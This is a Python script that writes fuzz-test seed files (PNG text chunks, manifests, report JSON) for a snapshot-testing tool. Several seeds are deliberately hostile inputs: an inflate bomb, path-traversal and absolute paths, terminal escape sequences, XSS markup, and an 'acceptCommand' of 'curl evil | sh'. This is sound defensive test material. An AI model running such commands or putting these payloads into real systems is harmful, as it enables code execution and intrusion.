#!/usr/bin/env python3
"""Writes the seeds of the fuzz targets for the files CI downloads: PNG text chunks
(Corpus/png-text), references folders' manifests (Corpus/manifest) and shards'
results.json (Corpus/report). Each has one real file made by `render-cells test`
(reference-with-layout.png, recorded.json, failed.json: a one-item spec recorded, changed,
and run again) beside the variants below: every text chunk kind, duplicate and unwanted
keywords, an inflate bomb; manifests of other versions and shapes; results whose paths try
to leave the shard, follow the fuzz target's links out, or carry markup and control
characters. Standard library only; run once, output checked in."""
import json, os, struct, zlib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "Corpus")

def write(folder, name, data):
    with open(os.path.join(ROOT, folder, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

def png(*chunks):
    ihdr = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
    idat = chunk(b"IDAT", zlib.compress(b"\0\xff\0\0\xff"))
    return b"\x89PNG\r\n\x1a\n" + ihdr + b"".join(chunks) + idat + chunk(b"IEND", b"")

layout = json.dumps({"elements": [{"id": "sections[0].items[0].text", "frame": [16, 11, 40, 22]}]}).encode()
itxt = lambda key, text, compressed=True: chunk(b"iTXt", key + b"\0" + (b"\1\0" if compressed else b"\0\0")
                                                + b"\0\0" + (zlib.compress(text) if compressed else text))
write("png-text", "text-kinds.png", png(chunk(b"tEXt", b"Comment\0caf\xe9"), chunk(b"zTXt", b"Title\0\0" + zlib.compress(b"hello")),
                                        itxt(b"Author", "Zoë".encode()), itxt(b"Plain", b"plain", False)))
write("png-text", "layout-and-fonts.png", png(itxt(b"render-cells:layout", layout),
                                              itxt(b"render-cells:fonts", b'{"fonts":[]}')))
write("png-text", "duplicate-keywords.png", png(itxt(b"render-cells:layout", b"first"), itxt(b"render-cells:layout", b"second"),
                                                chunk(b"tEXt", b"render-cells:fonts\0{}")))
write("png-text", "inflate-bomb.png", png(itxt(b"bomb", b"\0" * (1 << 20)), itxt(b"render-cells:layout", b"\0" * (1 << 20))))
write("png-text", "broken-chunks.png", png(chunk(b"iTXt", b"no-terminator"), chunk(b"zTXt", b"k\0\1bad"),
                                           chunk(b"iTXt", b"k\0\1\0lang")))

write("manifest", "empty-object.json", "{}")
write("manifest", "empty.json", '{"version": 1, "snapshots": {}}')
write("manifest", "version-2.json", '{"version": 2, "snapshots": {}}')
write("manifest", "version-3.json", '{"version": 3, "snapshots": {"a": {"inputs": "i", "pixels": "p", "file": "f"}}}')
write("manifest", "missing-field.json", '{"version": 1, "snapshots": {"a": {"inputs": "x", "pixels": "y"}}}')
write("manifest", "odd-names.json", json.dumps({"version": 1, "snapshots": {
    "../a": {"inputs": "", "pixels": "", "file": ""}, "a\u001b[2J": {"inputs": "\u0007", "pixels": "p", "file": "f"}}}))

failed = json.load(open(os.path.join(ROOT, "report", "failed.json")))
base = failed["results"][0]
for key, value in [("actual", "pics/a.png"), ("diff", "pics/a.png"), ("threePane", "pics/a.png"),
                   ("referenceCopy", "pics/a.png")]:
    base[key] = value
write("report", "failed.json", json.dumps(failed, indent=1))
def variant(file, **fields):
    run = json.loads(json.dumps(failed))
    run["results"][0].update(fields)
    write("report", file + ".json", json.dumps(run, indent=1))
variant("traversal", actual="../victim.png", diff="pics/../../victim.png")
variant("link-to-file", referenceCopy="pics/link.png")
variant("link-to-folder", threePane="out/secret.png")
variant("absolute", actual="/etc/hosts.png", reference="/outside/secret.png")
variant("control-characters", name="a\u001b]0;title\u0007", message="line\r\nerror: fake\u0000", actual="pics/a\u001b.png")
variant("markup", name="<script>alert(1)</script>", message="</pre><img src=x onerror=alert(1)>",
        acceptCommand="curl evil | sh", reference="__Snapshots__/<b>.png")
variant("missing-picture", diff="pics/gone.png")
# Found by the report target: a time beyond Int crashed the JUnit writer.
variant("huge-numbers", milliseconds=1e300, difference=dict(failed["results"][0]["difference"], densestWindowShare=1e300,
                                                            differingPixels=-9223372036854775808))
run = json.loads(json.dumps(failed))
orphan = {"id": "~orphan:__Snapshots__/old.png", "name": "old", "variant": "", "status": "orphaned",
          "reference": "__Snapshots__/old.png", "matchedByHash": False, "milliseconds": 0}
run["results"] += [orphan, dict(base), dict(base, id="b.yaml#dark", status="passed")]
write("report", "several.json", json.dumps(run, indent=1))
